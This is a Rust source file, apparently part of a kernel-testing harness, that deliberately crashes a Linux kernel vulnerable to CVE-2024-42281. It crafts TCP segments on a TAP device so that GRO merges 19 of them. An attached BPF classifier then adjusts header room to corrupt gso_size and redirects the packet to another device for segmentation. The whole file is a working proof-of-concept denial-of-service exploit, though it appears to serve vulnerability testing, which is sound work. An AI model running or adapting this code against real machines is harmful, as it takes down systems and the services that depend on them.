//! Traffic that kills a kernel which has CVE-2024-42281, from user space alone.
//!
//! Small TCP segments come in by a TAP device, as from a network card, and GRO merges 19
//! of them: one in the packet's own buffer, 17 in its pages, the last in its list. A BPF
//! program takes the place of an overlay network's: it makes room for a tunnel's header,
//! which takes as much off `gso_size`, and takes the room back, which does not give it
//! back. Then it sends the packet on by another device, which has it taken apart.

use std::fs::{self, File, OpenOptions};
use std::io::Write as _;
use std::mem::zeroed;
use std::os::fd::AsRawFd as _;
use std::os::unix::fs::OpenOptionsExt as _;
use std::sync::{Mutex, PoisonError};
use std::time::Duration;

use anyhow::{Context as _, Result, ensure};

use crate::bpf::{self, CALL, COPY, END, JUMP_IF_EQUAL, LOAD, SET, instruction};
use crate::machine;
use crate::netlink::{Netlink, attribute};

/// Names of the modules that it takes; made with the initramfs.
const MODULES: &str = "/modules/traffic";

const IN: &str = "tap0";
const OUT: &str = "tap1";

/// Bytes of a segment, how many GRO merges, and of the header: 18 segments are a multiple
/// of what is left of one, so that one begins where the list does.
const SEGMENT: usize = 125;
const SEGMENTS: usize = 19;
const HEADER: i32 = 50;

/// Once is enough; a packet that GRO sent on too early is made up for.
const ROUNDS: u32 = 20;

/// GRO waits so long for more.
const FLUSH: Duration = Duration::from_millis(200);
const PAUSE: Duration = Duration::from_millis(300);

/// `IFF_NAPI` (include/uapi/linux/if_tun.h): through GRO, as a card does.
const NAPI: libc::c_int = 0x0010;

/// Sends it; returns if the kernel lives on.
pub(crate) fn mangled() -> Result<()> {
    send(true, ROUNDS, FLUSH, PAUSE).map(drop)
}

/// Sends as many merged packets that are as they should be; gives how many segments left
/// by the other device.
pub(crate) fn merged(packets: u32) -> Result<u64> {
    send(
        false,
        packets,
        Duration::from_millis(2),
        Duration::from_millis(4),
    )
}

/// The devices that [`open`] made, which stay.
static OPEN: Mutex<Option<Road>> = Mutex::new(None);

/// Where packets come in, where they leave, and whether the program that sends them on, if
/// it is there, mangles them.
struct Road {
    inside: File,
    _outside: File,
    mangles: Option<bool>,
}

impl Road {
    fn new() -> Result<Self> {
        machine::load(MODULES)?;
        Ok(Self {
            inside: tap(IN, NAPI).context(IN)?,
            _outside: tap(OUT, 0).context(OUT)?,
            mangles: None,
        })
    }
}

/// Makes the devices now, so that they are there before traffic is; packets come in where
/// this machine has the address `local`.
pub(crate) fn open(local: [u8; 4]) -> Result<()> {
    let road = Road::new()?;
    machine::up(IN, local, [255, 255, 255, 0])?;
    *OPEN.lock().unwrap_or_else(PoisonError::into_inner) = Some(road);
    Ok(())
}

fn send(mangle: bool, rounds: u32, flush: Duration, pause: Duration) -> Result<u64> {
    let mut open = OPEN.lock().unwrap_or_else(PoisonError::into_inner);
    let mut own;
    let road = if let Some(road) = open.as_mut() {
        road
    } else {
        own = Road::new()?;
        &mut own
    };
    if let Some(mangles) = road.mangles {
        ensure!(mangles == mangle, "the program there does something else");
    } else {
        // GRO waits for all of them.
        let attribute = |name: &str| format!("/sys/class/net/{IN}/{name}");
        fs::write(attribute("gro_flush_timeout"), flush.as_nanos().to_string())?;
        fs::write(attribute("napi_defer_hard_irqs"), "100")?;
        machine::lock_any_memory()?;
        let program = load(index(OUT)?, mangle).context("the BPF program")?;
        attach(&program, index(IN)?).context("attaching the BPF program")?;
        road.mangles = Some(mangle);
    }
    let mut sequence = 1000;
    for round in 0..rounds {
        // A flow of its own, so that none is merged with the one before.
        let port = 1000 + (round % 50_000) as u16;
        for number in 0..SEGMENTS as u16 {
            road.inside.write_all(&frame(port, number + 1, sequence))?;
            sequence = sequence.wrapping_add(SEGMENT as u32);
        }
        std::thread::sleep(pause);
    }
    let sent = format!("/sys/class/net/{OUT}/statistics/tx_packets");
    let dropped = format!("/sys/class/net/{OUT}/statistics/tx_dropped");
    let number = |path: &str| -> Result<u64> { Ok(fs::read_to_string(path)?.trim().parse()?) };
    // Nobody reads them there: what its queue has no room for was taken apart as well.
    Ok(number(&sent)? + number(&dropped)?)
}

/// A TAP device that is up.
fn tap(name: &str, flags: libc::c_int) -> Result<File> {
    let file = OpenOptions::new()
        .read(true)
        .write(true)
        .custom_flags(libc::O_NONBLOCK)
        .open("/dev/net/tun")?;
    // Without a limit the kernel builds packets in pages, as cards' drivers do.
    let limit = libc::c_int::MAX;
    // SAFETY: an all-zero ifreq is valid; each request reads its own field of it, and
    // the other one an int.
    unsafe {
        let mut request: libc::ifreq = zeroed();
        for (to, from) in request.ifr_name.iter_mut().zip(name.bytes()) {
            *to = from as libc::c_char;
        }
        let kind = libc::IFF_TAP | libc::IFF_NO_PI | flags;
        request.ifr_ifru.ifru_flags = kind as libc::c_short;
        machine::check(libc::ioctl(
            file.as_raw_fd(),
            libc::TUNSETIFF as _,
            &raw mut request,
        ))?;
        machine::check(libc::ioctl(
            file.as_raw_fd(),
            libc::TUNSETSNDBUF as _,
            &raw const limit,
        ))?;
    }
    machine::flags(name, libc::IFF_UP)?;
    Ok(file)
}

fn index(device: &str) -> Result<u32> {
    let text = fs::read_to_string(format!("/sys/class/net/{device}/ifindex"))?;
    Ok(text.trim().parse()?)
}

/// A TCP segment over IPv4 over Ethernet; `number` tells packets of a flow apart.
fn frame(port: u16, number: u16, sequence: u32) -> Vec<u8> {
    let payload: Vec<u8> = (0..SEGMENT).map(|i| i as u8).collect();
    let mut ip = vec![0x45, 0];
    ip.extend(((40 + SEGMENT) as u16).to_be_bytes());
    ip.extend(number.to_be_bytes());
    // Not to be fragmented; lives long; TCP; no checksum yet; from, to.
    ip.extend([0x40, 0, 64, 6, 0, 0, 10, 1, 0, 1, 10, 2, 0, 1]);
    let sum = checksum(&ip, 0);
    ip[10..12].copy_from_slice(&sum.to_be_bytes());

    let mut tcp = Vec::new();
    tcp.extend(port.to_be_bytes());
    tcp.extend(2000_u16.to_be_bytes());
    tcp.extend(sequence.to_be_bytes());
    tcp.extend(1_u32.to_be_bytes());
    // Five words of header, an acknowledgement; window; no checksum yet.
    tcp.extend([0x50, 0x10, 0x03, 0xe8, 0, 0, 0, 0]);
    tcp.extend(&payload);
    let pseudo = sum_of(&ip[12..20]) + 6 + tcp.len() as u32;
    let sum = checksum(&tcp, pseudo);
    tcp[16..18].copy_from_slice(&sum.to_be_bytes());

    let ethernet = [2, 0, 0, 0, 0, 1, 2, 0, 0, 0, 0, 2, 8, 0];
    [&ethernet[..], &ip, &tcp].concat()
}

fn sum_of(bytes: &[u8]) -> u32 {
    let word = |pair: &[u8]| u32::from(pair[0]) << 8 | u32::from(*pair.get(1).unwrap_or(&0));
    bytes.chunks(2).map(word).sum()
}

/// The Internet's (RFC 1071).
fn checksum(bytes: &[u8], more: u32) -> u16 {
    let mut sum = sum_of(bytes) + more;
    while sum >> 16 != 0 {
        sum = (sum & 0xffff) + (sum >> 16);
    }
    !(sum as u16)
}

/// Offset of `gso_size` in `struct __sk_buff` (include/uapi/linux/bpf.h).
const GSO_SIZE: i16 = 176;

/// Helpers, `BPF_ADJ_ROOM_MAC`, `BPF_F_ADJ_ROOM_FIXED_GSO`, and a verdict (`TC_ACT_SHOT`).
const REDIRECT: i32 = 23;
const ADJUST_ROOM: i32 = 50;
const BEHIND_MAC: i32 = 1;
const KEEP_SIZE: i32 = 1;
const DROP: i32 = 2;

/// Loads the program that sends what GRO merged on by `out`, mangled or as it is, and
/// drops the rest.
fn load(out: u32, mangle: bool) -> Result<File> {
    let adjust = |bytes: i32, flags: i32| {
        [
            instruction(COPY, 0x61, 0, 0),
            instruction(SET, 2, 0, bytes),
            instruction(SET, 3, 0, BEHIND_MAC),
            instruction(SET, 4, 0, flags),
            instruction(CALL, 0, 0, ADJUST_ROOM),
        ]
    };
    let mut program = vec![
        instruction(COPY, 0x16, 0, 0),
        instruction(LOAD, 0x10, GSO_SIZE, 0),
        // Over all that follows, to the last two.
        instruction(JUMP_IF_EQUAL, 0, if mangle { 14 } else { 4 }, 0),
    ];
    if mangle {
        program.extend(adjust(HEADER, 0));
        program.extend(adjust(-HEADER, KEEP_SIZE));
    }
    program.extend([
        instruction(SET, 1, 0, out as i32),
        instruction(SET, 2, 0, 0),
        instruction(CALL, 0, 0, REDIRECT),
        instruction(END, 0, 0, 0),
        instruction(SET, 0, 0, DROP),
        instruction(END, 0, 0, 0),
    ]);
    bpf::load(&bpf::Program {
        at: bpf::At::Classifier,
        name: "mangle",
        instructions: &program,
    })
}

/// Has the program see all that comes in by a device.
fn attach(program: &File, device: u32) -> Result<()> {
    /// `TC_H_CLSACT`, with what comes in, and with nothing yet.
    const CLSACT: u32 = 0xffff_fff1;
    const INCOMING: u32 = 0xffff_fff2;
    const HANDLE: u32 = 0xffff_0000;
    /// Priority 1, all protocols.
    const ALL: u32 = 1 << 16 | 0x0300;
    /// Attributes (include/uapi/linux/rtnetlink.h, pkt_cls.h), and the flag that the
    /// program's answer is the verdict.
    const KIND: u16 = 1;
    const OPTIONS: u16 = 2;
    const PROGRAM: u16 = 6;
    const NAME: u16 = 7;
    const FLAGS: u16 = 8;
    const DIRECT: u32 = 1;

    let netlink = Netlink::open()?;
    let message = |device: u32, handle: u32, parent: u32, info: u32| -> Vec<u8> {
        [0, device, handle, parent, info]
            .map(u32::to_ne_bytes)
            .concat()
    };
    let kind = attribute(KIND, b"clsact\0");
    let body = [message(device, HANDLE, CLSACT, 0), kind].concat();
    netlink
        .create(libc::RTM_NEWQDISC, &body)
        .context("the clsact qdisc")?;
    let options = [
        attribute(PROGRAM, &(program.as_raw_fd() as u32).to_ne_bytes()),
        attribute(NAME, b"mangle\0"),
        attribute(FLAGS, &DIRECT.to_ne_bytes()),
    ];
    let body = [
        message(device, 0, INCOMING, ALL),
        attribute(KIND, b"bpf\0"),
        attribute(OPTIONS, &options.concat()),
    ];
    netlink
        .create(libc::RTM_NEWTFILTER, &body.concat())
        .context("the filter")
}
